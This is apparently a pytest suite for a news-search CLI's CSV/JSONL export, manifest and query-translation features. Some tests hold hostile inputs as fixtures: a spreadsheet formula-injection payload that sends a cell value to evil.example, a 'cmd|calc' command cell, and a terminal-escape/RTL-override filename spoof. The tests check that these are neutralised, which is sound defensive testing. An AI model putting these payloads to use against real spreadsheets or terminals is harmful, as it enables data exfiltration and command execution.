"""Every hit as rows, manifests, and the same rows again."""

import csv
import hashlib
import io
import json
import os
import subprocess
import sys
from collections.abc import Sequence
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest

from pipeline.indexing.index import Tombstone
from pipeline.indexing.tantivy import TantivyGenerations
from pipeline.model import Document, Entity, Label, Sighting, Stamps, TextSource
from pipeline.store.store import Store
from tests.cli.conftest import Ran, Wireroom
from tests.cli.newsroom import BRIDGE, FEED, HARBOUR, id_of, publish

COLUMNS = [
    "id", "version", "url", "title", "outlet", "outlet_name", "published_at", "published_source",
    "published_precision", "first_seen_at", "language", "text_source", "partial", "entities.person",
    "entities.organization", "entities.place", "authors", "tags", "feeds",
]  # fmt: skip
EVIL = "\x1b]0;owned\x07\x9b31m \u202egnp.exe"


@pytest.fixture
def published(store: Store, home: Path) -> Store:
    """Two articles in the index."""
    publish(store, home)
    return store


def story(number: int, **changed: Any) -> Document:
    """Make the document of one story; the greater the number, the newer."""
    document = Document(
        id=f"{number:032x}",
        version=1,
        revision=1,
        url=f"https://courier.example/{number}",
        title=f"Story {number}",
        text="The bridge.",
        authors=(),
        tags=(),
        language="en",
        outlet="courier.example",
        outlet_name="The Harbor Courier",
        published=None,
        first_seen_at=1_790_000_000.0 + number,
        text_source=TextSource.PAGE,
        partial=None,
        entities=(),
        fingerprint=(),
        sightings=(Sighting(feed=FEED, seen_at=1_790_000_000.0),),
        stamps=Stamps(extractor="test", language="test", model=None, rules=1),
    )
    return replace(document, **changed)


def write(home: Path, *documents: Document, gone: Sequence[Document] = ()) -> None:
    """Put documents into the index of a home."""
    generations = TantivyGenerations(home / "index")
    index = generations.open("g1")
    generations.expose("g1")
    index.put(documents)
    index.remove([Tombstone(each.id, each.version, each.first_seen_at) for each in gone])
    index.commit()
    index.close()


def table(ran: Ran) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(ran.out, newline="")))


def test_all_prints_every_hit_newest_first_and_more_than_a_page(wireroom: Wireroom, home: Path) -> None:
    write(home, *(story(number) for number in range(25)))
    newest = [line["title"] for line in wireroom("search", "bridge", "--all").lines]
    assert newest == [f"Story {number}" for number in reversed(range(25))]
    ran = wireroom("search", "bridge", "--all", "--sort", "oldest")
    assert [line["title"] for line in ran.lines] == newest[::-1]
    assert ran.err == "wireroom: 25 articles\n"


def test_a_row_of_jsonl_is_the_hit_of_search_without_score_and_highlights(
    wireroom: Wireroom, published: Store
) -> None:
    hit = wireroom("search", "url:bridge", "--json").json["hits"][0]
    [row] = wireroom("search", "url:bridge", "--all", "--format", "jsonl").lines
    assert row == {name: hit[name] for name in hit if name not in ("score", "highlights", "story")}
    assert (row["authors"], row["tags"], row["feeds"]) == (["Sam Writer"], ["city"], [FEED])


def test_the_columns_of_csv_are_a_contract(wireroom: Wireroom, published: Store) -> None:
    ran = wireroom("search", "url:bridge", "--all", "--format", "csv")
    [row] = table(ran)
    assert list(row) == COLUMNS
    assert row["id"] == id_of(BRIDGE)
    assert (row["version"], row["published_at"], row["partial"]) == ("1", "2026-09-21T14:13:20Z", "")
    assert (row["entities.person"], row["feeds"]) == ("Ada Okafor", FEED)
    assert ran.out.count("\r\n") == ran.out.count("\n") == 2


def test_fields_choose_and_order_the_columns(wireroom: Wireroom, published: Store) -> None:
    ran = wireroom("search", "url:bridge", "--all", "--format", "csv", "--fields", "title,entities,id")
    assert ran.out.splitlines() == [
        "title,entities.person,entities.organization,entities.place,id",
        f"The bridge is open,Ada Okafor,,Lagos,{id_of(BRIDGE)}",
    ]
    [row] = wireroom("search", "url:bridge", "--all", "--fields", "entities.place,url").lines
    assert row == {"entities": {"place": ["Lagos"]}, "url": BRIDGE}


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "＝", "\t=", "\r=", "\n@", "\u200b=", "\ufeff="])
def test_no_cell_of_csv_is_a_formula(wireroom: Wireroom, home: Path, start: str) -> None:
    formula = f'{start}HYPERLINK("http://evil.example?"&A1,"x")'
    names = (Entity(label=Label.PERSON, name=f"{start}cmd|calc", key="cmd", count=1, first_offset=0),)
    write(home, story(1, title=formula, authors=(f"{start}1+1", "Jane"), entities=names))
    [row] = table(wireroom("search", "", "--all", "--format", "csv"))
    shown = start.strip()
    assert row["title"] == f"""'{shown}HYPERLINK("http://evil.example?"&A1,"x")"""
    assert row["authors"] == f"'{shown}1+1|Jane"
    assert row["entities.person"] == f"'{shown}cmd|calc"


def test_csv_quotes_what_holds_quotes_commas_and_keeps_one_record_a_line(
    wireroom: Wireroom, home: Path
) -> None:
    write(home, story(1, title='He said "no",\r\nthen left', authors=("Doe, Jane", "Zoë 東京")))
    ran = wireroom("search", "", "--all", "--format", "csv", "--fields", "title,authors")
    assert ran.out == 'title,authors\r\n"He said ""no"", then left","Doe, Jane|Zoë 東京"\r\n'


@pytest.mark.parametrize("form", ["csv", "jsonl"])
def test_no_row_steers_the_terminal(wireroom: Wireroom, home: Path, form: str) -> None:
    # The index takes controls out of texts, not out of an outlet's domain or an address.
    write(home, story(1, title=EVIL, outlet=EVIL, outlet_name=EVIL, authors=(EVIL,), tags=(EVIL,), url=EVIL))
    said = wireroom("search", "", "--all", "--format", form)
    assert "gnp.exe" in said.out
    assert not set(said.out + said.err) & set("\x1b\x07\x9b\u202e")


def test_rows_are_utf8_whatever_the_terminal_is(home: Path) -> None:
    write(home, story(1, title="東京"))
    environ = {**os.environ, "WIREROOM_HOME": str(home), "PYTHONIOENCODING": "latin-1"}
    command = [sys.executable, "-c", "from pipeline.cli import main; main()", "search", "", "--all"]
    ran = subprocess.run(command, capture_output=True, env=environ, check=True)
    assert json.loads(ran.stdout.decode("utf-8"))["title"] == "東京"


# Manifests


@pytest.fixture
def cited(wireroom: Wireroom, published: Store, home: Path) -> tuple[Ran, Path]:
    """An export of both articles, and its manifest."""
    path = home / "manifest.json"
    return wireroom(
        "search", "bridge", "--since", "2020", "--tag", "city", "--all", "--manifest", str(path)
    ), path


def test_a_manifest_says_what_was_asked_of_what_and_found(cited: tuple[Ran, Path]) -> None:
    ran, path = cited
    manifest = json.loads(path.read_text())
    assert manifest["query"] == "bridge"
    assert manifest["filters"] == {"since": "2020", "tag": ["city"], "by": "first_seen", "tz": "UTC"}
    assert manifest["parsed"]["query"] == {"word": {"text": "bridge", "prefix": False, "field": None}}
    since = {"daterange": {"field": "first_seen", "start": "2020-01-01T00:00:00Z", "end": None}}
    assert since in manifest["parsed"]["filters"]
    assert manifest["sort"] == "newest"
    assert manifest["feeds"] == [{"url": FEED, "tags": [], "state": "active"}]
    assert (manifest["index"]["backend"], manifest["index"]["generation"]) == ("tantivy", "g1")
    assert manifest["wireroom"]
    assert manifest["made_at"].endswith("Z")
    assert manifest["documents"] == [[line["id"], line["version"]] for line in ran.lines]
    assert manifest["total"] == 2
    lines = sorted(f"{id} {version}\n" for id, version in manifest["documents"])
    assert manifest["sha256"] == hashlib.sha256("".join(lines).encode()).hexdigest()


@pytest.mark.parametrize("form", ["csv", "jsonl"])
def test_a_manifest_gives_the_same_rows_byte_for_byte(
    wireroom: Wireroom, cited: tuple[Ran, Path], home: Path, form: str
) -> None:
    before = wireroom("search", "bridge", "--all", "--format", form, "--sort", "newest").out
    write(home, story(7))  # found by the query, and not in the manifest
    ran = wireroom("search", "--from-manifest", str(cited[1]), "--format", form)
    assert (ran.code, ran.out) == (0, before)


def test_a_manifest_names_what_changed_and_what_was_removed(
    wireroom: Wireroom, cited: tuple[Ran, Path], home: Path
) -> None:
    changed, removed = story(0, id=id_of(BRIDGE), version=3), story(0, id=id_of(HARBOUR), version=2)
    write(home, changed, gone=[removed])
    ran = wireroom("search", "--from-manifest", str(cited[1]))
    assert (ran.code, ran.out) == (1, "")
    assert sorted(ran.err.splitlines()[:2]) == sorted(
        [
            f"wireroom: {id_of(BRIDGE)}: version 3, was 1",
            f"wireroom: {id_of(HARBOUR)}: removed, was version 1",
        ]
    )
    assert "2 of 2 articles" in ran.err.splitlines()[2]


@pytest.mark.parametrize(
    ("content", "said"),
    [
        ("", "is no manifest: it is not whole, or no JSON"),
        ("[" * 100_000, "is no manifest: it is not whole, or no JSON"),
        ("\xff\x00", "is no manifest: it is not whole, or no JSON"),
        ("[]", "is no manifest of `wireroom search --all --manifest`"),
        ('{"wireroom_manifest": 99}', "is a manifest of form 99"),
        ('{"wireroom_manifest": 1}', "was changed"),
        ('{"wireroom_manifest": 1, "documents": [["a"]], "total": 1, "sha256": ""}', "was changed"),
        ('{"wireroom_manifest": 1, "documents": [["a\\ud800", 1]], "total": 1, "sha256": ""}', "was changed"),
    ],
)
def test_a_file_that_is_no_manifest_is_one_line(
    wireroom: Wireroom, published: Store, tmp_path: Path, content: str, said: str
) -> None:
    path = tmp_path / "bad.json"
    path.write_text(content, encoding="latin-1")
    ran = wireroom("search", "--from-manifest", str(path))
    assert (ran.code, ran.out, ran.err.count("\n")) == (2, "", 1)
    assert said in ran.err


def test_a_manifest_that_was_changed_is_refused(wireroom: Wireroom, cited: tuple[Ran, Path]) -> None:
    path = cited[1]
    path.write_text(path.read_text().replace('"total": 2', '"total": 3'))
    assert "was changed" in wireroom("search", "--from-manifest", str(path)).err
    assert wireroom("search", "--from-manifest", str(path / "x")).code == 2


def test_a_manifest_that_cannot_be_written_is_said_before_any_row(
    wireroom: Wireroom, published: Store, tmp_path: Path
) -> None:
    ran = wireroom("search", "", "--all", "--manifest", str(tmp_path / "nowhere" / "m.json"))
    assert (ran.code, ran.out, ran.err.count("\n")) == (2, "", 1)
    assert "cannot be written: No such file" in ran.err


def test_no_file_is_overwritten_by_a_manifest_and_no_row_is_printed(
    wireroom: Wireroom, published: Store, tmp_path: Path
) -> None:
    path = tmp_path / "backup.db"
    path.write_text("precious")
    ran = wireroom("search", "", "--all", "--manifest", str(path))
    assert (ran.code, ran.out, ran.err.count("\n")) == (2, "", 1)
    assert f"{path} is there already, and may be what somebody cites: name another" in ran.err
    assert path.read_text() == "precious"


def test_rows_that_were_not_read_leave_no_manifest(home: Path, store: Store) -> None:
    write(home, *(story(number, title="Long " * 200) for number in range(300)))
    path = home / "manifest.json"
    search = f"search '' --all --manifest {path}"
    command = f"{sys.executable} -c 'from pipeline.cli import main; main()' {search} | head -1"
    environ = {**os.environ, "WIREROOM_HOME": str(home)}
    ran = subprocess.run(["bash", "-c", command], capture_output=True, text=True, env=environ, check=False)
    assert (ran.stdout.count("\n"), ran.stderr) == (1, "")
    assert list(home.glob("manifest.json*")) == []


# What goes together


@pytest.mark.parametrize(
    ("arguments", "said"),
    [
        ("x --format csv", "--format needs --all"),
        ("x --fields id", "--fields needs --all"),
        ("x --manifest m.json", "--manifest needs --all"),
        ("x --all --size 5", "--size does not go with --all"),
        ("x --all --after abc", "--after does not go with --all"),
        ("x --all --facets day", "--facets does not go with --all"),
        ("x --all --sort relevance", "--sort relevance does not go with --all"),
        ("x --all --format csv --json", "--json does not go with --format csv"),
        ("x --all --format xml", "invalid value for '--format'"),
        ("x --all --fields titel", "there is no field 'titel'; did you mean title?"),
        ("x --from-manifest m.json", "a query does not go with --from-manifest"),
        ("--since 7d --from-manifest m.json", "--since does not go with --from-manifest"),
        ("--manifest a.json --from-manifest m.json", "--manifest does not go with --from-manifest"),
        ("--from-manifest m.json", "m.json cannot be read: No such file"),
        ("x --as kql --json", "--json does not go with --as"),
        ("x --as kql --all", "--all does not go with --as"),
        ("x --as sql", "invalid value for '--as'"),
    ],
)
def test_options_that_make_no_sense_together_are_refused(
    wireroom: Wireroom, arguments: str, said: str
) -> None:
    ran = wireroom("search", *arguments.split())
    assert (ran.code, ran.out, ran.err.count("\n")) == (2, "", 1)
    assert said in ran.err


# For Kibana


def test_a_query_is_printed_as_kql_or_dsl_without_any_index(wireroom: Wireroom) -> None:
    assert wireroom("search", "language:fr", "--as", "kql").out == 'language: "fr"\n'
    dsl = wireroom("search", "language:fr -partial:*", "--as", "dsl").json["query"]["bool"]
    assert dsl["must_not"] == [{"exists": {"field": "partial"}}]


@pytest.mark.parametrize("form", ["kql", "dsl"])
def test_a_translated_query_does_not_steer_the_terminal(wireroom: Wireroom, form: str) -> None:
    said = wireroom("search", f'title:"{EVIL}"', "--as", form)
    assert "gnp.exe" in said.out
    assert not set(said.out) & set("\x1b\x07\x9b\u202e")


def test_what_kql_cannot_say_is_one_line(wireroom: Wireroom) -> None:
    ran = wireroom("search", '"a b"~5', "--as", "kql")
    assert (ran.code, ran.out, ran.err.count("\n")) == (2, "", 1)
    assert "use --as dsl" in ran.err
